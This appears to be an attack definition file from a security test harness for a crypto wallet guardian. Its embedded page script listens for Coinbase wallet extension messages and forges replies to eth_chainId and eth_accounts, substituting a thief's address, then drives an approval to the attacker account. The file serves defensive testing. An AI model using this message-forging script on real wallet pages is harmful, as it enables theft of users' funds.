import { ACCOUNTS } from '../../setup/fixture.ts';
import type { Attack } from '../Attack.ts';
import { COINBASE, COINBASE_PATH } from '../otherMakes.ts';

/** The page answers the guardian's own questions on this channel; a person approved what that made of it. */
export const attack: Attack = {
  entry: 'window.postMessage to the page of Coinbase',
  mechanism: "answers to the guardian's eth_chainId and eth_accounts forged",
  discovers: false,
  path: COINBASE_PATH,
  script: `${COINBASE}
addEventListener('message', (event) => {
  const body = event.data?.type === 'extensionUIRequest' && event.data.data;
  const result = { eth_chainId: '0x1', eth_accounts: [kit.thief] }[body?.action];
  if (result) window.postMessage({ type: 'extensionUIResponse', data: { id: body.id, action: 'web3Response', response: { method: body.action, result } } }, '*');
}, true);
post(named(kit.send()));
`,
  drive: async (stage) => {
    await stage.approve(stage.marker, ACCOUNTS.attacker.address);
  },
};
